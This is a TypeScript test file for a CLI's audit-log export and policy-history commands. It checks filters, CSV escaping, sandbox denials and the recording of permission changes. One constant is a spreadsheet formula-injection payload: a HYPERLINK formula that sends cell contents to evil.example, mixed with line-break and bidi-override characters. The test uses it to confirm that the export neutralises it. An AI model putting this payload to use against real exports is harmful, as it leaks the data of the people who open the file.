import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditRecord } from "../../src/audit/audit-log.js";
import { CSV_COLUMNS, csvHeader } from "../../src/audit/export.js";
import { type CallResult, createHost } from "../../src/host.js";
import { type CliRun, cliRunner } from "../helpers/cli-modes.js";
import { parseCsvLine } from "../helpers/csv.js";
import { type TempDataDir, makeDataDir } from "../helpers/data-dir.js";

const PROBE_TOOL = `
import { fs } from "@animaworks/tool";
export function get_tool_schemas() {
  return [
    { name: "probe_work", description: "writes its own file, tries another Anima's" },
    { name: "probe_fail", description: "fails" },
    { name: "probe_read", description: "reads a path", input_schema: { type: "object", properties: { path: { type: "string" } }, required: ["path"] } },
  ];
}
export async function dispatch(name, args) {
  if (name === "probe_work") {
    await fs.writeFile("note.txt", "x");
    try { await fs.readFile("../bob/secret.txt"); } catch {}
    return "done";
  }
  if (name === "probe_fail") throw new Error("nope");
  try { await fs.readFile(args.path); } catch {}
  return "read";
}
`;

/** A path a tool controls, made to break lines, cells and terminals and to run in a spreadsheet. */
const HOSTILE_PATH = '=HYPERLINK("http://evil.example/?"&A1,"x")\r\n,"next",\u2028\u202eevil';

const callIdOf = (result: CallResult): string => {
  if (result.callId === undefined) throw new Error("the call has no id");
  return result.callId;
};

describe("animaworks-tool audit events / policy-history", () => {
  let data: TempDataDir;
  const calls: Record<string, string> = {};
  let all: AuditRecord[];

  const cli = async (...argv: string[]): Promise<CliRun> => {
    const runner = await cliRunner("in-process", data.dir);
    return runner.run(["--data-dir", data.dir, ...argv]);
  };
  const jsonl = (run: CliRun): AuditRecord[] => {
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toBe(""); // the trails verify: no warning
    return run.stdout === "" ? [] : run.stdout.split("\n").map((line) => JSON.parse(line) as AuditRecord);
  };
  const field = (record: AuditRecord, name: string): unknown => (record as unknown as Record<string, unknown>)[name];

  beforeAll(async () => {
    data = makeDataDir({ "animas/alice/tools/probe.ts": PROBE_TOOL, "animas/bob/tools/probe.ts": PROBE_TOOL, "animas/bob/secret.txt": "s" });
    const host = createHost({ dataDir: data.dir, isolation: "in-process", onLog: () => {} });
    calls["work"] = callIdOf(await host.call("alice", "probe_work"));
    calls["fail"] = callIdOf(await host.call("alice", "probe_fail"));
    calls["hostile"] = callIdOf(await host.call("alice", "probe_read", { path: HOSTILE_PATH }));
    calls["bob"] = callIdOf(await host.call("bob", "probe_work"));
    await host.close();
    all = jsonl(await cli("audit", "events"));
  });
  afterAll(() => data.cleanup());

  it("streams every record as JSON lines, oldest first, each line one whole record", () => {
    expect(all.length).toBeGreaterThan(12);
    const kinds = new Set(all.map((record) => record.kind));
    for (const kind of ["call_start", "call", "capability", "policy_change"]) expect(kinds).toContain(kind);
    const times = all.map((record) => record.ts);
    expect(times).toEqual([...times].sort());
    expect(all.every((record) => record.v === 1 && typeof record.seq === "number")).toBe(true);
  });

  it("filters by --anima, --tool, --kind and --outcome, alone and together", async () => {
    const bob = jsonl(await cli("audit", "events", "--anima", "bob"));
    expect(bob.length).toBeGreaterThan(0);
    expect(bob.every((record) => field(record, "anima") === "bob")).toBe(true);
    expect(bob).toEqual(all.filter((record) => field(record, "anima") === "bob"));

    const probe = jsonl(await cli("audit", "events", "--tool", "probe"));
    expect(probe).toEqual(all.filter((record) => field(record, "tool") === "probe"));

    const capabilities = jsonl(await cli("audit", "events", "--kind", "capability"));
    expect(capabilities.length).toBeGreaterThan(3);
    expect(capabilities).toEqual(all.filter((record) => record.kind === "capability"));

    const denied = jsonl(await cli("audit", "events", "--outcome", "denied"));
    expect(denied.length).toBeGreaterThan(0);
    expect(denied).toEqual(all.filter((record) => field(record, "outcome") === "denied"));

    const aliceDenials = jsonl(await cli("audit", "events", "--anima", "alice", "--kind", "capability", "--outcome=denied"));
    expect(aliceDenials.map((record) => field(record, "target"))).toContain("../bob/secret.txt");
    expect(aliceDenials.every((record) => field(record, "anima") === "alice" && field(record, "outcome") === "denied")).toBe(true);
  });

  it("filters by --since and --until (dates and durations), which split the records at an instant", async () => {
    const middle = all.find((record) => record.kind === "call_start" && field(record, "callId") === calls["fail"]) as AuditRecord;
    const since = jsonl(await cli("audit", "events", "--since", middle.ts));
    const until = jsonl(await cli("audit", "events", "--until", middle.ts));
    expect(since.every((record) => record.ts >= middle.ts)).toBe(true);
    expect(until.every((record) => record.ts < middle.ts)).toBe(true);
    expect(since.length + until.length).toBe(all.length);
    expect(until.length).toBeGreaterThan(0);
    expect(jsonl(await cli("audit", "events", "--since", "1h"))).toEqual(all);
    expect(jsonl(await cli("audit", "events", "--until", "1h"))).toEqual([]);
    expect(jsonl(await cli("audit", "events", "--since", "2000-01-01", "--until", "2000-01-02T00:00Z"))).toEqual([]);
  });

  it("--call gives every record of one call: its start, its capabilities and its end", async () => {
    const records = jsonl(await cli("audit", "events", "--call", calls["work"] as string));
    expect(records).toEqual(all.filter((record) => field(record, "callId") === calls["work"]));
    const text = (value: unknown) => (typeof value === "string" ? value : "");
    expect(records.map((record) => `${record.kind}:${text(field(record, "operation"))}:${text(field(record, "outcome"))}`)).toEqual([
      "call_start::",
      "capability:fs.writeFile:ok",
      "capability:fs.readFile:denied",
      "call::ok",
    ]);
    expect(jsonl(await cli("audit", "events", "--call", "no-such-call"))).toEqual([]);
  });

  it("writes CSV: the documented columns, one line per record, hostile text quoted and formulas guarded", async () => {
    const run = await cli("audit", "events", "--format", "csv");
    expect(run.code, run.stderr).toBe(0);
    const lines = run.stdout.split("\n");
    expect(lines[0]).toBe(csvHeader());
    expect(lines).toHaveLength(all.length + 1);
    const rows = lines.slice(1).map(parseCsvLine);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const hostile = rows.find((row) => row[column("callId")] === calls["hostile"] && row[column("kind")] === "capability") as string[];
    // The record keeps the line break escaped (the audit log does); the export escapes the rest and guards the formula.
    expect(hostile[column("target")]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"x")\\u000d\\u000a,"next",\\u2028\\u202eevil');
    expect(rows.map((row) => row[column("seq")])).toEqual(all.map((record) => String(record.seq)));
    // The JSON line of the same record parses back to the text the tool gave, line break escaped as stored.
    const stored = all.find((record) => field(record, "callId") === calls["hostile"] && record.kind === "capability");
    expect(field(stored as AuditRecord, "target")).toBe('=HYPERLINK("http://evil.example/?"&A1,"x")\\u000d\\u000a,"next",\u2028\u202eevil');
  });

  it("refuses bad flags with InvalidArguments and the usage", async () => {
    for (const argv of [
      ["--format", "xml"],
      ["--kind", "nope"],
      ["--outcome", "maybe"],
      ["--since", "yesterday-ish"],
      ["--until"],
      ["--bogus"],
      ["stray"],
      ["--since", "1h", "--until", "2h"],
    ]) {
      const run = await cli("audit", "events", ...argv);
      expect(run.code, argv.join(" ")).toBe(2);
      expect(run.stderr).toMatch(/^Error \(InvalidArguments\): audit events: .* — Usage: animaworks-tool audit events \[--format jsonl\|csv\]/);
      expect(run.stdout).toBe("");
    }
  });

  it("is the same through a running host (the daemon path)", async () => {
    const runner = await cliRunner("daemon", data.dir);
    try {
      const run = await runner.run(["--data-dir", data.dir, "audit", "events", "--anima", "bob", "--format", "csv"]);
      expect(run.ranBy).toBe("host");
      expect(run.code, run.stderr).toBe(0);
      const local = await cli("audit", "events", "--anima", "bob", "--format", "csv");
      // The running host may have added records of its own start (bob's): the lines it shares with the local run match.
      expect(run.stdout.startsWith(local.stdout)).toBe(true);
    } finally {
      await runner.close();
    }
  });

  it("policy-history lists each policy change with the keys that changed, after a permissions.json edit", async () => {
    data.write("animas/alice/permissions.json", JSON.stringify({ tool_creation: { shared: true } }));
    // No host has served alice since: the change is in force, not yet recorded.
    const before = JSON.parse((await cli("audit", "policy-history", "--anima", "alice", "--json")).stdout) as PolicyHistory;
    expect(before.history.filter((entry) => entry.scope === "permissions").map((entry) => entry.who)).toEqual(["alice"]);
    expect(before.pending.find((entry) => entry.who === "alice")?.changes).toEqual([
      { key: "source", before: '"defaults"', after: '"permissions.json"' },
      { key: "toolCreation.shared", before: "false", after: "true" },
    ]);

    expect((await cli("--anima", "alice", "probe", "work")).code).toBe(0); // a host serves alice: the change is recorded
    const after = JSON.parse((await cli("audit", "policy-history", "--anima", "alice", "--json")).stdout) as PolicyHistory;
    const alice = after.history.filter((entry) => entry.scope === "permissions");
    expect(alice.map((entry) => entry.who)).toEqual(["alice", "alice"]);
    expect(alice[0]?.from).toBeUndefined();
    expect(alice[1]).toMatchObject({ from: alice[0]?.to, changes: before.pending.find((entry) => entry.who === "alice")?.changes });
    expect(after.history.some((entry) => entry.scope === "operator" && entry.who === "operator")).toBe(true);
    expect(after.pending.filter((entry) => entry.who === "alice")).toEqual([]);
    // Every Anima's, without --anima; oldest first.
    const everyone = JSON.parse((await cli("audit", "policy-history", "--json")).stdout) as PolicyHistory;
    expect(new Set(everyone.history.map((entry) => entry.who))).toEqual(new Set(["operator", "alice", "bob"]));
    expect(everyone.history.map((entry) => entry.ts)).toEqual(everyone.history.map((entry) => entry.ts).sort());

    const text = await cli("audit", "policy-history", "--anima", "alice");
    expect(text.code).toBe(0);
    expect(text.stdout).toContain(`Anima alice  ${alice[0]?.to} → ${alice[1]?.to}`);
    expect(text.stdout).toContain("    toolCreation.shared: false → true");
    expect(text.stdout).not.toContain("Anima bob");
    expect((await cli("audit", "policy-history", "--stray")).code).toBe(2);
  });
});

interface PolicyHistory {
  history: Array<{ ts: string; who: string; scope: string; from?: string; to: string; changes: Array<{ key: string; before?: string; after?: string }> }>;
  pending: Array<{ who: string; scope: string; from?: string; to: string; changes: Array<{ key: string; before?: string; after?: string }> }>;
}
